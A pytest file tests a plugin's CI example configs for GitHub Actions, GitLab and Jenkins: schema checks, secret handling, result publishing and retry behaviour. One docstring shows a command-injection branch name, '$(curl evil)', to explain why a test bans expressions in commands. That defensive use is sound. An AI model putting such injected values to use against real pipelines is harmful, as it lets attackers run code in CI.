"""The CI examples: their format is that of the CI, and their commands run as in a job of it."""

import os
import re
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import jsonschema
import pytest
from tests.support.atlases import every_run
from tests.support.ci_examples import DIRECTORY, EXAMPLES, Job, yaml_of
from tests.support.events import SYSTEM
from tests.support.inner import Ended, Project, environment
from tests.support.served_atlas import TOKEN, ServedAtlas, served_atlas
from tests.support.stand_in import ALONE

from pytest_atlas.journal import decode
from pytest_atlas.journal import events as ev
from pytest_atlas.settings import SETTINGS

CLOSED = "http://127.0.0.1:1"
BENCHES = ("bench-a", "bench-b")
Example = Callable[..., Job]

on_posix = pytest.mark.skipif(os.name == "nt", reason="the examples' commands are for a POSIX shell")
each_example = pytest.mark.parametrize("example", EXAMPLES.values(), ids=EXAMPLES)


# ── format ─────────────────────────────────────────────────────────────────────────────────────────────────────────────

TEXT = {"type": "string", "minLength": 1}
TEXTS = {"type": "object", "additionalProperties": TEXT}
LINES = {"type": "array", "items": TEXT, "minItems": 1}

# https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax
GITHUB_STEP = {
    "type": "object",
    "properties": {
        "id": TEXT, "name": TEXT, "if": TEXT, "run": TEXT, "env": TEXTS, "continue-on-error": {"type": "boolean"},
        "uses": {"type": "string", "pattern": r"^[\w-]+/[\w-]+@[0-9a-f]{40}$"}, "with": {"type": "object"},
    },
    "oneOf": [{"required": ["uses"]}, {"required": ["run"]}],
    "additionalProperties": False,
}  # fmt: skip
GITHUB_JOB = {
    "type": "object",
    "properties": {
        "if": TEXT, "runs-on": LINES, "timeout-minutes": {"type": "integer"}, "env": TEXTS,
        "steps": {"type": "array", "items": GITHUB_STEP},
        "strategy": {
            "type": "object",
            "properties": {"fail-fast": {"type": "boolean"}, "matrix": {"type": "object", "additionalProperties": LINES}},
            "additionalProperties": False,
        },
    },
    "required": ["runs-on", "steps"],
    "additionalProperties": False,
}  # fmt: skip
GITHUB_WORKFLOW = {
    "type": "object",
    "properties": {
        "name": TEXT,
        "on": {"type": "object", "propertyNames": {"enum": ["push", "pull_request", "schedule"]}},
        "permissions": {"const": {"contents": "read"}},
        "jobs": {"type": "object", "additionalProperties": GITHUB_JOB},
    },
    "required": ["on", "permissions", "jobs"],
    "additionalProperties": False,
}
# https://docs.gitlab.com/ci/yaml/
GITLAB_JOB = {
    "type": "object",
    "properties": {
        "stage": {"enum": ["build", "test", "deploy"]},
        "parallel": {
            "type": "object",
            "properties": {"matrix": {"type": "array", "items": {"type": "object", "additionalProperties": LINES}}},
            "required": ["matrix"],
            "additionalProperties": False,
        },
        "tags": LINES, "resource_group": TEXT, "timeout": TEXT, "variables": TEXTS,
        "before_script": LINES, "script": LINES, "after_script": LINES,
        "rules": {
            "type": "array",
            "items": {
                "type": "object",
                "properties": {"if": TEXT, "when": {"enum": ["never", "always", "on_success"]}},
                "additionalProperties": False,
            },
        },
        "artifacts": {
            "type": "object",
            "properties": {"when": {"const": "always"}, "name": TEXT, "paths": LINES, "expire_in": TEXT},
            "additionalProperties": False,
        },
    },
    "required": ["script"],
    "additionalProperties": False,
}  # fmt: skip


def test_the_github_workflow_matches_the_schema() -> None:
    workflow = yaml_of("github-actions.yml")
    jsonschema.validate(workflow, GITHUB_WORKFLOW)
    (job,) = workflow["jobs"].values()
    assert job["strategy"]["matrix"] == {"bench": list(BENCHES)}
    assert any("include-hidden-files" in step.get("with", {}) for step in job["steps"])  # otherwise .atlas is not uploaded


def test_the_github_expressions_use_contexts_available_at_their_place() -> None:
    """https://docs.github.com/en/actions/reference/workflows-and-actions/contexts#context-availability"""
    (job,) = yaml_of("github-actions.yml")["jobs"].values()
    of_job = re.findall(r"\b(github|matrix|vars|secrets|steps|env|job|runner)\.(\w+)", str(job["env"]))
    assert {context for context, _ in of_job} <= {"github", "matrix", "vars"}
    assert ("github", "job") not in of_job  # only available in a step
    assert {context for context, _ in re.findall(r"\b(github|matrix|secrets)\.(\w+)", job["if"])} == {"github"}
    ids = {step["id"] for step in job["steps"] if "id" in step}
    assert {found for step in job["steps"] for found in re.findall(r"steps\.(\w+)", step.get("if", ""))} == ids


def test_the_gitlab_pipeline_matches_the_schema() -> None:
    (job,) = yaml_of("gitlab-ci.yml").values()
    jsonschema.validate(job, GITLAB_JOB)
    assert job["parallel"]["matrix"] == [{"BENCH": list(BENCHES)}]


def test_the_jenkinsfile_is_a_declarative_pipeline() -> None:
    text = (DIRECTORY / "Jenkinsfile").read_text("utf-8")
    code = re.sub(r"('[^'\n]*'|\"[^\"\n]*\")|//.*", lambda found: "''" if found[1] else "", text)
    for opening, closing in ("{}", "()", "[]"):
        assert code.count(opening) == code.count(closing) > 0
    # https://www.jenkins.io/doc/book/pipeline/syntax/
    blocks = "pipeline options environment stages stage matrix axes axis when expression agent steps post always"
    blocks += " withCredentials script if"
    assert set(re.findall(r"(\w+) ?(?:\([^{}]*\))? ?\{", code)) == set(blocks.split())
    assert text.startswith("//")
    assert re.findall(r"stage\('(\w+)'\)", text) == ["HIL", "Install", "Test"]
    assert re.search(r"values 'bench-a', 'bench-b'", text)


# ── secrets ──────────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", ["github-actions.yml", "gitlab-ci.yml", "Jenkinsfile"])
def test_only_the_environment_contains_the_token(name: str) -> None:
    text = (DIRECTORY / name).read_text("utf-8")
    code = "\n".join(line for line in text.splitlines() if not line.strip().startswith(("#", "//")))
    allowed = {
        "github-actions.yml": r"ATLAS_TOKEN: \$\{\{ secrets\.ATLAS_TOKEN \}\}",
        "gitlab-ci.yml": r"(?!)",  # a variable of the project
        "Jenkinsfile": r"string\(credentialsId: 'atlas-token', variable: 'ATLAS_TOKEN'\)",
    }
    assert "ATLAS_TOKEN" not in re.sub(allowed[name], "", code)
    assert re.search("fork", text, re.IGNORECASE)
    assert not re.search(r'\bsh "', code)  # Groovy would insert the secret into a string in double quotes


@each_example
def test_commands_have_no_github_expressions(example: Example) -> None:
    """An expression in a command allows injection: a branch can have the name $(curl evil)."""
    job = example("bench-a", settings(CLOSED))
    assert "${{" not in " ".join([*job.install, job.test, job.push])


# ── commands ─────────────────────────────────────────────────────────────────────────────────────────────────────────────


@each_example
def test_commands_use_existing_options(example: Example) -> None:
    job = example("bench-a", settings(CLOSED))
    assert set(re.findall(r"--atlas-[a-z]+", job.test)) <= {setting.option for setting in SETTINGS}
    assert [line for line in job.install if "pip install" in line] == [".venv/bin/pip install -r requirements.txt"]


class Checkout:
    """A checkout of a project with the virtual environment that the job's `install` creates."""

    def __init__(self, root: Path) -> None:
        self.project = Project(root).write(
            "test_trip.py",
            """
            import os
            def test_bench(): assert os.environ["BENCH"] in ("bench-a", "bench-b")
            def test_trip(): assert 112 <= 100
            """,
        )
        for name, module in (("pytest", "pytest"), ("pytest-atlas", "pytest_atlas.cli")):
            self.project.write(f".venv/bin/{name}", f'#!/bin/sh\nexec "{sys.executable}" -m {module} "$@"\n')
            (root / ".venv" / "bin" / name).chmod(0o755)

    def shell(self, job: Job, command: str, **more: str) -> "subprocess.CompletedProcess[str]":
        """Run a command of the job as its CI does."""
        return subprocess.run(
            ["bash", "-e", "-o", "pipefail", "-c", command.replace("--timeout 30", "--timeout 1")],
            cwd=self.project.root, env=environment(**{**ALONE, **job.variables, **more}),
            stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip

    @property
    def session(self) -> ev.SessionStarted:
        """The first event of the newest session."""
        newest = max((self.project.root / ".atlas" / "sessions").iterdir(), key=lambda path: path.stat().st_mtime_ns)
        copy = self.project.root / ".only"
        shutil.rmtree(copy, ignore_errors=True)
        shutil.copytree(newest, copy / "sessions" / newest.name)
        (started,) = Ended(0, "", "", copy).recorded(ev.SessionStarted)
        return started


@pytest.fixture
def checkout(tmp_path: Path) -> Checkout:
    return Checkout(tmp_path / "psu")


@pytest.fixture
def served(tmp_path: Path) -> Iterator[ServedAtlas]:
    with served_atlas(tmp_path / "server") as atlas:
        yield atlas


def settings(url: str) -> dict[str, str]:
    return {"ATLAS_URL": url, "ATLAS_SYSTEM_ID": SYSTEM, "ATLAS_TOKEN": TOKEN}


@on_posix
@each_example
def test_a_job_publishes_its_results_and_has_the_exit_code_of_its_tests(
    example: Example, checkout: Checkout, served: ServedAtlas
) -> None:
    job = example("bench-a", settings(served.url))
    own = {}
    if "GITHUB_ACTIONS" in job.variables:
        checkout.project.write("step.md", "")  # as the runner does
        own["GITHUB_STEP_SUMMARY"] = str(checkout.project.root / "step.md")
    tested = checkout.shell(job, job.test, **own)
    assert tested.returncode == pytest.ExitCode.TESTS_FAILED, tested.stdout + tested.stderr
    (run,) = every_run(served.atlas)
    (page,) = checkout.project.root.glob("*.md")
    assert run.test_run_id in page.read_text("utf-8")
    assert "bench-a" in run.title
    assert "\nCI job: https://" in run.description
    assert "\nPull request: " in run.description
    assert TOKEN not in tested.stdout + tested.stderr
    pushed = checkout.shell(job, job.push)
    assert pushed.returncode == 0, pushed.stdout + pushed.stderr
    assert not job.keeps_by_itself or not (checkout.project.root / job.kept).exists()


@on_posix
@each_example
def test_pending_results_are_published_from_the_artifact(
    example: Example, checkout: Checkout, served: ServedAtlas, tmp_path: Path
) -> None:
    job = example("bench-a", settings(CLOSED))
    tested = checkout.shell(job, job.test, PYTEST_ADDOPTS="--atlas-timeout=1")
    assert tested.returncode == pytest.ExitCode.TESTS_FAILED, tested.stdout + tested.stderr
    pushed = checkout.shell(job, job.push)
    assert (pushed.returncode == 0) == job.keeps_by_itself
    artifact = zipped(checkout.project.root / job.kept, tmp_path / "artifact.zip")
    shutil.rmtree(checkout.project.root)  # the container is deleted
    with zipfile.ZipFile(artifact) as packed:
        packed.extractall(tmp_path / "elsewhere")
    (journal,) = (tmp_path / "elsewhere").rglob("journal.jsonl")
    lines = journal.read_bytes().splitlines()
    (session,) = (event for line in lines if isinstance(event := decode.event(line), ev.SessionStarted))
    at_home = {**environment(), **settings(served.url)}
    shown = []
    for _ in range(2):
        command = [sys.executable, "-m", "pytest_atlas.cli", "push", f"--run-key={session.key}", str(tmp_path / "elsewhere")]
        done = subprocess.run(command, cwd=tmp_path, env=at_home, capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout + done.stderr
        (run,) = every_run(served.atlas)
        shown.append(run)
    assert shown[0] == shown[1]
    assert shown[0].description.endswith(f"\npytest-atlas: {session.key}")
    assert [[s.execution_status for s in card.test_steps] for card in shown[0].test_cards] == [["passed", "failed"]]


def zipped(directory: Path, to: Path) -> Path:
    """Write an artifact as a CI does: the files, without permissions and times."""
    with zipfile.ZipFile(to, "w") as packed:
        for path in sorted(directory.rglob("*")):
            if path.is_file():
                packed.writestr(str(path.relative_to(directory.parent)), path.read_bytes())
    return to


AGAIN = {
    "github": {"GITHUB_RUN_ATTEMPT": "2", "RUNNER_NAME": "another"},
    "gitlab": {"CI_JOB_RETRY_COUNT": "1", "CI_JOB_ID": "992", "CI_RUNNER_DESCRIPTION": "another"},
    "jenkins": {"NODE_NAME": "another"},  # by retry(2) within the build
}
"""The variables that differ in a retry of the job."""
LATER = {
    "github": {"GITHUB_RUN_ID": "1658821494", "GITHUB_RUN_NUMBER": "58"},
    "gitlab": {"CI_PIPELINE_ID": "4712", "CI_PIPELINE_IID": "58"},
    "jenkins": {"BUILD_TAG": "jenkins-psu-PR-12-58", "BUILD_NUMBER": "58"},
}
"""The variables that differ in the next build."""


@on_posix
@pytest.mark.parametrize("name", EXAMPLES)
def test_a_retried_job_records_into_the_run_of_its_first_attempt(name: str, checkout: Checkout, served: ServedAtlas) -> None:
    first = EXAMPLES[name]("bench-a", settings(served.url))
    checkout.shell(first, first.test)
    shutil.rmtree(checkout.project.root / ".atlas")  # another machine
    checkout.project.write("test_trip.py", "def test_bench(): pass\ndef test_trip(): pass")
    again = EXAMPLES[name]("bench-a", settings(served.url), **AGAIN[name])
    tested = checkout.shell(again, again.test)
    assert tested.returncode == 0, tested.stdout + tested.stderr
    (run,) = every_run(served.atlas)
    # The step has both attempts: it passed after the failure in the first attempt of the job (C2).
    assert [[s.execution_status for s in card.test_steps] for card in run.test_cards] == [["passed", "passed_with_exception"]]
    leg = EXAMPLES[name]("bench-b", settings(served.url))
    checkout.shell(leg, leg.test)
    assert len(list(every_run(served.atlas))) == 2


@on_posix
@pytest.mark.parametrize("name", EXAMPLES)
def test_attempts_share_a_key_and_other_jobs_and_builds_have_others(name: str, checkout: Checkout) -> None:
    def recorded(bench: str, **changes: str) -> ev.SessionStarted:
        job = EXAMPLES[name](bench, settings("https://atlas.example.com"), **changes)
        done = checkout.shell(job, job.test, PYTEST_ADDOPTS="--atlas-offline")
        assert done.returncode == pytest.ExitCode.TESTS_FAILED, done.stdout + done.stderr
        return checkout.session

    first, leg, again, later = (
        recorded("bench-a"), recorded("bench-b"), recorded("bench-a", **AGAIN[name]), recorded("bench-a", **LATER[name])
    )  # fmt: skip
    assert {session.run for session in (first, leg, again, later)} == {"auto"}
    assert first.key == again.key
    assert len({first.key, leg.key, later.key}) == 3
    assert first.job == again.job == later.job != leg.job
